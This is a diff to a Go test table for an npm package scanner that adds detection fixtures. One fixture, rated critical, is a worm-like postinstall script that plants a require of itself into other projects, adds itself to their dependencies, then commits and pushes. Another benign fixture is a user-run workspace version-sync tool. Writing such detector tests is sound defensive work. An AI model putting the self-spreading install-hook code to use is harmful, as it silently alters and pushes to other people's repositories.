@@ -35,6 +35,20 @@ fs.writeFileSync("package.json", JSON.stringify(pkg, null, 2)); exec("npm publis
 		{"publish_at_install_no_token", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node s.js"}}`,
 			"s.js": `require("child_process").execSync("npm publish")`}, finding.SeverityHigh},
 		// a release CLI passing "publish" to npm when the user runs it
+		// at install, one module plants a require of the package into
+		// other projects' main files and adds it to their dependencies,
+		// another commits and pushes the change
+		{"plants_itself_split_at_install", map[string]string{"package.json": `{"name":"wlf","version":"0.2.9","scripts":{"postinstall":"node index.js"}}`,
+			"index.js": `const { apply } = require("./patch"), { push } = require("./git"); for (const d of dirs()) if (apply(d)) push(d)`,
+			"patch.js": `const fs = require("fs"), path = require("path"); const SELF = require("./package.json"); const LINE = "require('" + SELF.name + "/register');\n";
+exports.apply = (dir) => { const f = path.join(dir, "package.json"); const pkg = JSON.parse(fs.readFileSync(f, "utf8")); pkg.dependencies[SELF.name] = "^" + SELF.version; fs.writeFileSync(f, JSON.stringify(pkg)); fs.appendFileSync(path.join(dir, "index.js"), LINE); return true }`,
+			"git.js": `const { execFile } = require("child_process"); const git = (cwd, a) => execFile("git", a, { cwd }); exports.push = (d) => { git(d, ["commit", "-am", "fix"]); git(d, ["push", "origin", "HEAD"]) }`}, finding.SeverityCritical},
+		// a monorepo tool syncing the workspace's own ranges, run by the
+		// user, committing when asked
+		{"workspace_version_sync_cli", map[string]string{"package.json": `{"name":"wvs","version":"1.4.0","bin":{"wvs":"cli.js"}}`,
+			"cli.js": `const fs = require("fs"), path = require("path"), { execFileSync } = require("child_process"); const own = require("./package.json");
+for (const d of workspaces()) { const f = path.join(d, "package.json"); const pkg = JSON.parse(fs.readFileSync(f, "utf8")); pkg.devDependencies[own.name] = "^" + own.version; fs.writeFileSync(f, JSON.stringify(pkg)) }
+if (argv.commit) { execFileSync("git", ["commit", "-am", "sync"]); execFileSync("git", ["push"]) }`}, finding.SeverityNone},
 		{"release_cli_argv", map[string]string{"cli.js": `const { execFileSync } = require("child_process"); if (!process.env.NPM_TOKEN) throw new Error("set NPM_TOKEN"); execFileSync("npm", ["publish", "--tag", tag])`}, finding.SeverityNone},
 	})
 }
